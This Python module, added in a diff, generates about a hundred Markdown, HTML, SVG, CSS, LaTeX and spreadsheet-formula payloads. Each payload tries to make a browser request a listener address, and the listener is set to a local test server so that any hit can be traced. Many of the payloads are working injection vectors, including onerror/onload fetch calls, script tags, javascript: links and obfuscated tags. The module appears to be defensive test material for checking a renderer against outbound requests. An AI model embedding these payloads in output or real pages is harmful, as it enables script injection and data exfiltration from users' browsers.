@@ -1,0 +1,123 @@
+"""A hundred texts that try to make a browser ask another server."""
+
+from __future__ import annotations
+
+from itertools import cycle, islice
+
+TEMPLATES = (
+    "![x]({u})",
+    '![x]({u} "title")',
+    "![x](<{u}>)",
+    "![x][ref]\n\n[ref]: {u}",
+    "![ref]\n\n[ref]: {u} 'title'",
+    "[![x]({u})]({u})",
+    "[text]({u})",
+    "<{u}>",
+    "{u}",
+    "//{h}",
+    "![x](//{h})",
+    "![x](\\\\{h})",
+    "![x](http:{h})",
+    "![x](&#104;ttp://{h})",
+    "![x](h\u200bttp://{h})",
+    "!\u2060[x]({u})",
+    "![x](\n{u})",
+    "$$\\includegraphics{{{u}}}$$",
+    "$\\href{{{u}}}{{x}}$",
+    "$\\url{{{u}}}$",
+    "$\\htmlData{{x={u}}}{{x}}$",
+    "```mermaid\ngraph TD; A[<img src={u}>]-->B; click A '{u}'\n```",
+    "```html\n<img src={u}>\n```",
+    "`` ` ``<img src={u}>",
+    ":material/delete: ![x]({u})",
+    ":image: {u}",
+    ":streamlit: ![:material/x:]({u})",
+    ":red[![x]({u})]",
+    ":blue-background[<img src={u}>]",
+    ":small[![x]({u})]",
+    "<img src={u}>",
+    '<img src="{u}" onerror="fetch(\'{u}\')">',
+    "<IMG SRC='{u}'>",
+    "<img/src={u}>",
+    "<img srcset='{u} 1x, {u}2 2x'>",
+    "<picture><source srcset={u}><img></picture>",
+    "<svg><image href='{u}'/></svg>",
+    "<svg><image xlink:href='{u}'/></svg>",
+    "<svg><use href='{u}#x'/></svg>",
+    "<svg><style>@import url({u})</style></svg>",
+    "<svg onload=\"fetch('{u}')\">",
+    "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>)",
+    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>\">",
+    "<iframe src={u}></iframe>",
+    "<iframe srcdoc=\"<img src='{u}'>\"></iframe>",
+    "<frameset><frame src={u}></frameset>",
+    "<object data={u}></object>",
+    "<embed src={u}>",
+    "<video poster={u} src={u}v></video>",
+    "<audio src={u} autoplay></audio>",
+    "<video><track src={u} default></video>",
+    "<link rel=stylesheet href={u}>",
+    "<link rel=prefetch href={u}>",
+    "<link rel=preconnect href={u}>",
+    "<link rel='icon' href={u}>",
+    "<link rel=modulepreload href={u}>",
+    "<style>@import url({u});</style>",
+    "<style>*{{background:url({u})}}</style>",
+    "<style>@font-face{{font-family:x;src:url({u})}}*{{font-family:x}}</style>",
+    "<b style=\"background:url('{u}')\">x</b>",
+    "<b style='list-style-image:url({u})'>x</b>",
+    "<b style='cursor:url({u}),auto'>x</b>",
+    "<table background={u}><tr><td background={u}>x</table>",
+    "<body background={u}>",
+    "<input type=image src={u}>",
+    "<form action={u}><button autofocus>x</button></form>",
+    "<script src={u}></script>",
+    "<script>new Image().src='{u}'</script>",
+    "<script>location='{u}'</script>",
+    "<script type=module>import '{u}'</script>",
+    "<meta http-equiv=refresh content='0;url={u}'>",
+    "<base href={u}>",
+    "<a href={u} ping={u}>x</a>",
+    "<a href=\"javascript:fetch('{u}')\">x</a>",
+    "[x](javascript:fetch('{u}'))",
+    "<details open ontoggle=\"fetch('{u}')\">x</details>",
+    "<math><mtext><img src={u}></mtext></math>",
+    "<noscript><img src={u}></noscript>",
+    "<template><img src={u}></template><img src={u}>",
+    "<!--><img src={u}>-->",
+    "<![CDATA[<img src={u}>]]>",
+    "</div></details><img src={u}>",
+    "</textarea></title></style></script><img src={u}>",
+    "'\"><img src={u}>",
+    "&lt;img src={u}&gt;",
+    "&#60;img src={u}&#62;",
+    "\\u003cimg src={u}\\u003e",
+    "%3Cimg%20src={u}%3E",
+    "\uff1cimg src={u}\uff1e",
+    "<im\u200bg src={u}><img\u00a0src={u}>",
+    "| a |\n|---|\n| ![x]({u}) |",
+    "> ![x]({u})\n> <img src={u}>",
+    "- [ ] ![x]({u})",
+    "[^1]\n\n[^1]: ![x]({u})",
+    "# ![x]({u}) {{#id}}",
+    '=IMAGE("{u}")',
+    '=HYPERLINK("{u}","x")',
+    "@import '{u}';",
+    "[1]({u}) [2]: {u}",
+    "\u202e![x]({u})",
+)
+
+
+def payloads(listener: str, count: int = 100, mark: str = "p") -> list[str]:
+    """Return payloads, each with an address of its own at the listener.
+
+    Args:
+        listener: Address of the server that must not be asked, `http://127.0.0.1:9000`.
+        count: How many.
+        mark: Begins the path of each address, so that a hit tells where it came from.
+    """
+    host = listener.removeprefix("http://")
+    return [
+        template.format(u=f"{listener}/{mark}{number}", h=f"{host}/{mark}{number}")
+        for number, template in enumerate(islice(cycle(TEMPLATES), count))
+    ]
